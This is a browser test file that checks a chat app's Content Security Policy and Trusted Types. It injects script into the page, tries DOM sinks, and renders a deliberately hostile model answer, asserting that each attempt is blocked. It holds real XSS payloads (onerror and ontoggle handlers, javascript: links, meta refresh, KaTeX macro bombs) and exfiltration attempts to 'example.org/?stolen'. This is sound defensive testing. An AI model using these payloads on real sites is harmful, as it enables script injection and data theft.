import { expect, test } from '@jest/globals';
import type { Page } from 'playwright-core';
import { ask, lastAnswer } from '../../support/chat-page.ts';
import { eventually } from '../../support/eventually.ts';
import { describeWebOnOneNode } from '../../support/web-world.ts';

const lesson = [
  'Roots and fractions: $\\sqrt[3]{\\frac{a}{b}}$, $\\overbrace{x + \\cdots + x}^{n}$, $\\color{#2f5d8c}{y}$, $\\cancel{z}$.',
  '$$\\begin{pmatrix} 1 & 2 \\\\ 3 & 4 \\end{pmatrix} \\xrightarrow[\\text{below}]{\\text{above}} \\begin{cases} x & x > 0 \\\\ -x & \\text{otherwise} \\end{cases}$$',
  '$$\\int_0^\\infty e^{-x^2}\\,dx = \\frac{\\sqrt{\\pi}}{2} \\qquad \\widehat{ABC} \\qquad \\boxed{E = mc^2}$$',
  '$$\\pmb{v} \\qquad \\fcolorbox{red}{yellow}{w} \\qquad \\fbox{z}$$',
  '```ts\nconst half: number = 1 / 2;\n```\n\n```html\n<script>alert(1)</script>\n```\n\n```sql\nselect 1;\n```',
  '| step | left |\n|---|---|\n| widen | 3/6 |',
  '- [x] done\n- [ ] open\n\n> quoted ~~struck~~ [out](https://example.org/)[^1]\n\n[^1]: A note.',
  'The end.',
].join('\n\n');

/** Notes what the policy refuses, from the first byte of the next page on. */
const watchViolations = async (page: Page): Promise<void> => {
  await page.addInitScript(() => {
    const violations: string[] = [];
    Reflect.set(window, 'violations', violations);
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      violations.push(effectiveDirective),
    );
  });
};

const violationsOf = async (page: Page): Promise<ReadonlySet<string>> =>
  new Set(await page.evaluate((): string[] => Reflect.get(window, 'violations')));

const ranOn = (page: Page): Promise<unknown> => page.evaluate(() => Reflect.get(window, 'ran'));

describeWebOnOneNode('the policy of the page', (world) => {
  test('is kept by a whole visit: signing in, formulas, code, the admin page, signing out', async () => {
    const answer = world().model.answerTo('Show me everything.');
    const { page } = await world().browser.openTab(world().url);
    await watchViolations(page);
    await page.reload();
    await page.getByLabel('Role').selectOption('Admin');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await ask(page, 'Show me everything.');
    answer.say(...(lesson.match(/[\s\S]{1,20}/g) ?? []));
    answer.finish();
    await lastAnswer(page).getByText('The end.').waitFor();
    await lastAnswer(page).locator('.katex').nth(6).waitFor();
    await lastAnswer(page).locator('.hljs-keyword').first().waitFor();
    expect(await lastAnswer(page).locator('.katex-error').count()).toBe(0);
    await page.getByRole('link', { name: 'Admin' }).click();
    await page.getByRole('img', { name: /^Connections: now 1/ }).waitFor();
    await page.getByRole('link', { name: 'Go to the chat' }).click();
    await page.getByRole('button', { name: 'Sign out' }).click();
    await page.getByRole('button', { name: 'Sign in' }).waitFor();
    expect(await violationsOf(page)).toEqual(new Set());
  });

  test('runs and loads nothing that got into the markup of the page', async () => {
    const { page, takeProblems } = await world().browser.openTab(world().url);
    await watchViolations(page);
    const intruders = [
      '<script>window.ran = 1</script>',
      '<img src="/web/config.json" onerror="window.ran = 2">',
      '<script src="data:text/javascript,window.ran=3"></script>',
      '<script src="https://example.org/script.js"></script>',
      '<style>body { display: none }</style>',
      '<link rel="stylesheet" href="https://example.org/style.css">',
      '<img src="https://example.org/image.png">',
      '<base href="https://example.org/">',
      '<iframe src="https://example.org/"></iframe>',
      '<object data="https://example.org/"></object>',
    ];
    await page.route(world().url, async (route) => {
      const response = await route.fetch();
      const { 'content-encoding': _, 'content-length': __, ...headers } = response.headers();
      const html = await response.text();
      const body = html.replace('<div id="root">', `${intruders.join('')}<div id="root">`);
      await route.fulfill({ status: 200, headers, body });
    });
    await page.reload();
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('textbox', { name: 'Message' }).waitFor();
    expect(await ranOn(page)).toBeUndefined();
    expect(await page.evaluate(() => document.baseURI)).toBe(world().url);
    expect(await violationsOf(page)).toEqual(
      new Set([
        'base-uri',
        'frame-src',
        'img-src',
        'object-src',
        'script-src-attr',
        'script-src-elem',
        'style-src-elem',
      ]),
    );
    takeProblems(/./);
  });

  test('lets no text become markup or code, and nothing out to other servers', async () => {
    const { page, takeProblems } = await world().signIn('Ada');
    await page.getByRole('textbox', { name: 'Message' }).waitFor();
    await watchViolations(page);
    await page.reload();
    await page.getByRole('textbox', { name: 'Message' }).waitFor();
    const outcomes = await page.evaluate(() => {
      const attempts: (() => unknown)[] = [
        () => document.body.insertAdjacentHTML('beforeend', '<p>markup</p>'),
        () => Object.assign(document.createElement('div'), { innerHTML: '<p>markup</p>' }),
        () => Object.assign(document.createElement('script'), { text: 'window.ran = 1' }),
        () => Object.assign(document.createElement('script'), { src: '/script.js' }),
        () => Object.assign(document.createElement('iframe'), { srcdoc: '<p>markup</p>' }),
        () => new DOMParser().parseFromString('<p>markup</p>', 'text/html'),
        () => document.body.setAttribute('onclick', 'window.ran = 2'),
        () => Reflect.get(window, 'trustedTypes').createPolicy('own', {}),
      ];
      return attempts.map((attempt) => {
        try {
          attempt();
          return 'done';
        } catch (error) {
          return (error as Error).name;
        }
      });
    });
    expect(new Set(outcomes)).toEqual(new Set(['TypeError']));

    const fetched = await page.evaluate(async () => {
      const image = document.createElement('img');
      image.src = 'https://example.org/?stolen';
      const form = document.createElement('form');
      form.action = 'https://example.org/?stolen';
      form.method = 'post';
      document.body.append(image, form);
      form.submit();
      return fetch('https://example.org/?stolen').catch((error: Error) => error.name);
    });
    expect(fetched).toBe('TypeError');
    const expected = ['connect-src', 'form-action', 'img-src', 'require-trusted-types-for', 'trusted-types'];
    await eventually(async () => (await violationsOf(page)).size === expected.length);
    expect(await violationsOf(page)).toEqual(new Set(expected));
    expect(await ranOn(page)).toBeUndefined();
    expect(takeProblems(/Content Security Policy|Trusted/)).not.toEqual([]);
  });

  test('is not even asked by a hostile answer, which stays within its place and its time', async () => {
    const hostile = [
      '[one][js] <javascript:window.ran=1> [two](java&#115;cript:window.ran=2) [three](JaVaScRiPt:window.ran=3)',
      '[four](//example.org/four) [five](/c/elsewhere) [six](blob:https://example.org/six) [seven](file:///etc/passwd)',
      '[js]: javascript:window.ran=4',
      '<form action="https://example.org/"><button>Go</button></form><meta http-equiv="refresh" content="0;url=https://example.org/">',
      '<object data="https://example.org/"></object><embed src="https://example.org/"><link rel="stylesheet" href="https://example.org/a.css">',
      '<details open ontoggle="window.ran=5">x</details><math><mtext><img src=x onerror="window.ran=6"></mtext></math>',
      'A note[^1] <div id="root" class="katex" style="position:fixed;inset:0">over all</div>',
      '[^1]: <img src=x onerror="window.ran=7"> ![eight](data:image/png;base64,AAAA)',
      '```"><img/src=x/onerror=window.ran=8>\n<script>window.ran=9</script>\n```',
      '$\\def\\a{\\a\\a}\\a$ $\\rule{9999em}{9999em}$ $\\kern{9999em}$ $\\htmlStyle{position:fixed;inset:0}{x}$ $\\htmlId{root}{x}$',
      '$\\def\\x{\\href{javascript:window.ran=10}{y}}\\x$ $\\color{url(https://example.org/d.png)}x$ $\\frac{1}{$',
      `| a | b\n|---|\n| 1 | 2 | 3 |\n\n| wide |\n|---|\n| ${'w'.repeat(500)} |`,
      `${'>'.repeat(60)} deep`,
      `\`\`\`js\n${'const x = "y"; '.repeat(200)}\n${'x();\n'.repeat(400)}\`\`\``,
      `\u202eright to left, ${'z\u0301'.repeat(200)} ${'long'.repeat(300)}`,
      'The end.',
    ];
    const answer = world().model.answerTo('Be more hostile.');
    answer.say(...hostile.map((each) => `${each}\n\n`));
    answer.finish();
    const { page, requests } = await world().signIn('Eve');
    await ask(page, 'Be more hostile.');
    await lastAnswer(page).getByText('The end.').waitFor();
    await lastAnswer(page).locator('.katex').first().waitFor();
    await lastAnswer(page).locator('.hljs-keyword').first().waitFor();
    const shown = lastAnswer(page);
    expect(await shown.locator('a').count()).toBe(0);
    expect(
      await shown
        .locator(
          'script, iframe, style, base, img, object, embed, form, meta, link, #root, [onerror], [ontoggle]',
        )
        .count(),
    ).toBe(0);
    expect(await page.locator('#root').count()).toBe(1);
    expect(await ranOn(page)).toBeUndefined();
    expect(requests.filter((each) => each.includes('example.org'))).toEqual([]);
    const widths = await page.evaluate(() => [document.documentElement.scrollWidth, innerWidth]);
    expect(widths[0]).toBeLessThanOrEqual(widths[1] ?? 0);
    expect(new URL(page.url()).host).toBe(new URL(world().url).host);
  });
});
